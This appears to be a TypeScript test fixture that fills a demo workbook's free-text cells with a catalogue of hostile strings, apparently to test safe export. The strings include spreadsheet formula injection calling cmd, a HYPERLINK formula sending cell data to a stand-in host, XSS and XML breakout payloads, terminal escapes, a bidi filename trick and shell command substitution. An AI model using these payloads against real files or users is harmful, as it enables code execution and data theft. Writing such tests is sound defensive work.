import { textOf } from "../../src/book/workbook/cells.ts";
import { DEMO_SEED, demoBook } from "../../src/book/demo/workbook.ts";
import type { Edit, Plan, SheetCell } from "../../src/book/workbook/plan.ts";
import type { CellValue } from "../../src/book/workbook/snapshot.ts";

/**
 * Texts that some reader might run, obey or stumble over, the sign that does it in front. None says that a part
 * is damaged: that would be heard, and rightly.
 */
export const HOSTILE: readonly string[] = [
  // Formulas, and calls of other programs: CWE-1236.
  "=cmd|'/C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "  =1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\u00a0=1+1",
  '=HYPERLINK("http://velloran.example/?"&A1,"open")',
  '"",=1+1',
  "'=1+1",
  // Line and cell separators, and what they would begin.
  "\t=1+1",
  "\r=1+1",
  "a\n=1+1",
  "a;=1+1,=1+1\t=1+1",
  "a\r\nBEGIN:VALARM\r\nATTACH:http://velloran.example",
  "a\u2028b\u2029c\u0085d",
  // Markup, and ways out of it: CWE-79 and CWE-91.
  '<script>globalThis.obeyed="script"</script>',
  '"><img src=x onerror="globalThis.obeyed=1">',
  "'><svg onload=globalThis.obeyed=2>",
  "javascript:globalThis.obeyed=3",
  "]]><x/>",
  "--><x/><!--",
  '&lt;b&gt;&#10;&unknown;" x="',
  "_x000A_=1+1",
  '&L&P&"Arial"&[Picture]',
  // What a terminal obeys, and what turns the direction of a text: CWE-150 and CWE-1007.
  "\u001b[2J\u001b]0;title\u0007",
  "\u001b]8;;http://velloran.example\u0007link\u001b]8;;\u0007",
  "\u009b31mred",
  "\u202egnp.exe",
  "\u2066a\u2069\u200f",
  "a\b\b\bb\u007f",
  // Halves of characters, and what XML cannot hold.
  "\ud800",
  "\udfff\ud83d",
  "\u0000",
  "\ufffe\uffff",
  "__proto__",
  "%s%n{0}${1}`id`$(id)",
];

/** Cells of these headings hold free text in the demonstration. */
const FREE: Readonly<Record<string, readonly string[]>> = {
  Equipment: ["Device", "Site", "Model", "Serial number", "Remarks"],
  "Monthly sessions": ["Device", "Site"],
  Parts: [
    "Name",
    "Our item number",
    "Supplier's item number",
    "Maker's item number",
    "Supplier",
    "Quote",
    "Cost centre",
  ],
  Sites: ["Code", "Name", "Ship to", "Cost centre"],
  Holidays: ["Name"],
  "Job log": ["Device", "Lot", "By", "Note"],
  Shelf: ["Site", "Lot"],
};

/** Names that other cells repeat: the same name must get the same text everywhere. */
const SHARED = ["Device", "Site", "Code", "Supplier", "Quote", "Lot"];

/** The demonstration with a hostile text in front of every free text, a different one in each name. */
export function hostileBook(turn = 0): Plan {
  const { plan } = demoBook(DEMO_SEED, false);
  return { ...plan, edits: plan.edits.map((edit) => worse(edit, turn)) };
}

function worse(edit: Edit, turn: number): Edit {
  if (edit.kind !== "addSheet") return edit;
  const headings = new Map(
    edit.cells.flatMap(({ row, column, value }) => (row === 2 ? [[column, value] as const] : [])),
  );
  const free = FREE[edit.sheet] ?? [];
  const isFree = (column: number): boolean => free.includes(textOf(headings.get(column) ?? null));
  const cells = edit.cells.map((cell): SheetCell => {
    if (cell.row === 0) return { ...cell, value: hostile(cell.value, edit.sheet.length + turn) };
    // A heading that nothing is read from.
    if (cell.row === 2 && cell.value === "Remarks")
      return { ...cell, value: hostile("Remarks", turn) };
    if (cell.row <= 2 || !isFree(cell.column)) return cell;
    const isShared = SHARED.includes(textOf(headings.get(cell.column) ?? null));
    const at = isShared ? placeOf(textOf(cell.value)) : cell.row * 7 + cell.column;
    return { ...cell, value: hostile(cell.value, at + turn) };
  });
  return { ...edit, cells };
}

function hostile(value: CellValue, at: number): CellValue {
  return typeof value === "string" ? `${HOSTILE[at % HOSTILE.length] ?? ""} ${value}` : value;
}

/** A number for a name; the devices of the demonstration are numbered one by one. */
function placeOf(name: string): number {
  return Number(name.replaceAll(/\D/g, "")) || name.length;
}
